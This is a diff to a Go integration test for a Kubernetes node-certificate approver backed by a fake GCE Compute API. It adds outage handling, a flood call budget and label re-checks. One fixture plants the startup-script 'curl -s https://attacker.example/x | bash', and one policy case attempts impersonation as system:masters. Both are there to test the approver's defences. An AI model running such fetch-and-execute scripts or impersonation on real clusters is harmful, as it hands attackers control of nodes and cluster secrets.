@@ -75,6 +75,9 @@ type fakeCompute struct {
 	configs map[string][]fakeConfig
 	asked   []string
 	nextID  uint64
+	// unreadable are the instances (zone + "/" + name) whose instances.get
+	// answers 503, as the Compute API does when it cannot serve.
+	unreadable map[string]bool
 }
 
 type fakeConfig struct {
@@ -97,7 +100,7 @@ type fakeInstance struct {
 }
 
 func newFakeCompute(t *testing.T, project string) *fakeCompute {
-	f := &fakeCompute{project: project, token: "ya29.compute-" + fmt.Sprint(time.Now().UnixNano()), instances: map[string]fakeInstance{}, configs: map[string][]fakeConfig{}}
+	f := &fakeCompute{project: project, token: "ya29.compute-" + fmt.Sprint(time.Now().UnixNano()), instances: map[string]fakeInstance{}, configs: map[string][]fakeConfig{}, unreadable: map[string]bool{}}
 	return f
 }
 
@@ -145,6 +148,14 @@ func (f *fakeCompute) guestAttributes(w http.ResponseWriter, r *http.Request, zo
 		return
 	}
 	reply(w, http.StatusOK, map[string]any{"kind": "compute#guestAttributes", "variableKey": key, "variableValue": v, "selfLink": self + "?variableKey=" + key})
+}
+
+// remove deletes instance zone/name, as a scale-down or a MIG's
+// deleteInstances does.
+func (f *fakeCompute) remove(zone, name string) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	delete(f.instances, zone+"/"+name)
 }
 
 // addConfig adds a per-instance config for instance name to MIG zone/mig.
@@ -218,6 +229,11 @@ func (f *fakeCompute) serve(w http.ResponseWriter, r *http.Request) {
 	name, guest := strings.CutSuffix(name, "/getGuestAttributes")
 	if !ok || !ok2 || r.Method != http.MethodGet || strings.Contains(name, "/") {
 		apiError(w, http.StatusNotFound, "NOT_FOUND", "no such method "+r.Method+" "+r.URL.Path)
+		return
+	}
+	if f.unreadable[zone+"/"+name] && !guest {
+		f.asked = append(f.asked, zone+"/"+name)
+		apiError(w, http.StatusServiceUnavailable, "UNAVAILABLE", "The service is currently unavailable.")
 		return
 	}
 	i, found := f.instances[zone+"/"+name]
@@ -670,6 +686,14 @@ func (e *approverEnv) testPolicy(t *testing.T, joiner *testcp.User) {
 				`{"metadata":{"labels":{"`+model.VerifiedGroupLabel+`":"work"}},"spec":{"unschedulable":true}}`)
 			return stderr, err
 		}, "may change only the label " + model.VerifiedGroupLabel + " of node renew-work-lb08"},
+		{"ImpersonateAnyone", func() (string, error) {
+			// What does not hold: cluster-admin grants impersonation, and a
+			// request made as another user is that user's, which the
+			// policy (matching the ServiceAccount's requests) does not see.
+			_, stderr, err := kubectl(t, e.sa, "", "--as=nodegen-someone", "--as-group=system:masters",
+				"create", "secret", "generic", "impersonated", "-n", "default", "--from-literal=k=v", "--dry-run=server")
+			return stderr, err
+		}, ""},
 	}
 	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
@@ -795,12 +819,14 @@ func (e *approverEnv) testScript(t *testing.T, joiner *testcp.User) {
 		}
 	}
 
-	// The shipped script with a pause of a second between passes.
+	// The shipped script with a pause of a second between passes, and
+	// Nodes checked again after recheck instead of a minute.
 	shipped, err := os.ReadFile(e.script)
 	if err != nil {
 		t.Fatal(err)
 	}
-	script, err := scripttest.WithConstants(shipped, map[string]string{"POLL_SECONDS": "1"})
+	const recheck = 2 * time.Second
+	script, err := scripttest.WithConstants(shipped, map[string]string{"POLL_SECONDS": "1", "RECHECK_SECONDS": strconv.Itoa(int(recheck / time.Second))})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -893,6 +919,10 @@ func (e *approverEnv) testScript(t *testing.T, joiner *testcp.User) {
 	// the new VM's CSR is approved once it published.
 	e.testRecreated(t, f, joiner, zone, mig)
 
+	// While the Compute API cannot serve a VM's instance, its CSR stays
+	// pending; once it can, the CSR is approved.
+	e.testUnreadable(t, f, joiner, zone, mig)
+
 	// The flood: 100 CSRs from the join token, filed before a VM's own,
 	// do not hold its approval past floodBound.
 	e.testFlood(t, f, joiner, zone, mig, &logs)
@@ -950,6 +980,38 @@ func (e *approverEnv) testScript(t *testing.T, joiner *testcp.User) {
 			t.Errorf("the approver labelled %s %s=%s", name, model.VerifiedGroupLabel, l)
 		}
 	}
+
+	// Labelled Nodes are checked again. The autoscaler's account, which may
+	// update the MIG, adds a per-instance config with its own startup-script
+	// to the VM approved and labelled above (applied at its next restart):
+	// the Node loses the label, so the workloads and policies that select
+	// on it no longer trust it, and does not get it back. The instance of
+	// another labelled Node is deleted (a scale-down): that Node keeps the
+	// label, which the node garbage collector needs to delete it once it
+	// is NotReady. The autoscaler's Node, unchanged, keeps its label.
+	e.renewer.adminCreate(t, `{"apiVersion":"v1","kind":"Node","metadata":{"name":"renew-work-du01"},"spec":{"providerID":"`+gceID(e, zone, "renew-work-du01")+`"}}`)
+	eventually(t, 30*time.Second, "the approver labelling renew-work-du01", func() string {
+		if l := label("renew-work-du01"); l != "work" {
+			return fmt.Sprintf("renew-work-du01 %q", l)
+		}
+		return ""
+	})
+	f.addConfig(zone, mig, "renew-work-ab12", map[string]string{"startup-script": "curl -s https://attacker.example/x | bash"})
+	f.remove(zone, "renew-work-du01")
+	added := time.Now()
+	eventually(t, 30*time.Second, "the approver removing the label of renew-work-ab12, whose MIG now holds a per-instance config for it", func() string {
+		if l := label("renew-work-ab12"); l != "" {
+			return fmt.Sprintf("renew-work-ab12 %q", l)
+		}
+		return ""
+	})
+	t.Logf("renew-work-ab12 lost %s %v after the per-instance config was added (Nodes checked again every %v)", model.VerifiedGroupLabel, time.Since(added).Round(time.Millisecond), recheck)
+	time.Sleep(3 * recheck) // more checks
+	for name, want := range map[string]string{"renew-work-ab12": "", "renew-work-du01": "work", "renew-ca-a1b2": "ca"} {
+		if l := label(name); l != want {
+			t.Errorf("after the re-checks, %s has %s=%q; want %q", name, model.VerifiedGroupLabel, l, want)
+		}
+	}
 	if strings.Contains(logs.String(), "ya29.") || strings.Contains(logs.String(), joiner.Token) {
 		t.Error("the approver logged a token")
 	}
@@ -989,6 +1051,45 @@ func (e *approverEnv) testRecreated(t *testing.T, f *fakeCompute, joiner *testcp
 			t.Errorf("recreated %s: %s CSR was %s (%s); want %s", name, who, d.Type, d.Message, wantType)
 		}
 	}
+}
+
+// testUnreadable files a fresh VM's CSR while instances.get answers 503
+// for its instance: the approver leaves it pending and approves it once
+// the Compute API answers.
+func (e *approverEnv) testUnreadable(t *testing.T, f *fakeCompute, joiner *testcp.User, zone, mig string) {
+	const name = "renew-work-un01"
+	vm := newVM(t)
+	id := f.set(zone, name, fakeInstance{Status: "RUNNING", Created: time.Now().Add(-10 * time.Second), MIG: mig})
+	f.writeGuest(zone, name, model.KubeletKeyAttribute, vm.published(id))
+	f.mu.Lock()
+	f.unreadable[zone+"/"+name] = true
+	f.mu.Unlock()
+	own := createCSR(t, joiner, vm.csr(t, name), model.KubeletClientSigner)
+	eventually(t, 30*time.Second, "the approver asking the Compute API for "+name, func() string {
+		f.mu.Lock()
+		defer f.mu.Unlock()
+		if slices.Contains(f.asked, zone+"/"+name) {
+			return ""
+		}
+		return "not asked"
+	})
+	time.Sleep(3 * time.Second) // more passes
+	if d := decision(e.csr(t, own)); d != nil {
+		t.Fatalf("the CSR of %s was %s while the Compute API could not serve its instance: %s", name, d.Type, d.Message)
+	}
+	f.mu.Lock()
+	delete(f.unreadable, zone+"/"+name)
+	f.mu.Unlock()
+	eventually(t, 30*time.Second, "the CSR of "+name+" decided once the Compute API answers", func() string {
+		d := decision(e.csr(t, own))
+		if d == nil {
+			return "pending"
+		}
+		if d.Type != certificatesv1.CertificateApproved {
+			t.Fatalf("the CSR of %s was %s: %s", name, d.Type, d.Message)
+		}
+		return ""
+	})
 }
 
 // floodBound is how long a flood of floodSize CSRs of the VM's own join
@@ -1114,6 +1215,14 @@ func (e *approverEnv) testFlood(t *testing.T, f *fakeCompute, joiner *testcp.Use
 	calls := compute() - before
 	t.Logf("flood of %d CSRs filed in %v; the VM's CSR, filed after it, approved %v later (bound %v); all %d denied %v after the first was filed; %d Compute API calls for them",
 		floodSize, filed.Round(time.Millisecond), approved.Round(time.Millisecond), floodBound, floodSize, decided.Round(time.Millisecond), calls)
+	// Each instance is read once a pass, however many CSRs name it: reading
+	// it for each CSR would cost the 21 CSRs naming the VM (the flood's 20
+	// and its own) three calls each (instances.get, the MIG's configs, the
+	// guest attribute), 63, on top of one call for each of the 60 names of
+	// no instance; once a pass costs three calls a pass that reads one.
+	if limit := 110; calls >= limit {
+		t.Errorf("the flood cost %d Compute API calls; want fewer than %d (each instance read once a pass)", calls, limit)
+	}
 	if n := strings.Count(logs.String(), "pending CSRs: "); n == 0 {
 		t.Errorf("the approver's log does not say it capped the pending CSRs of the token")
 	}
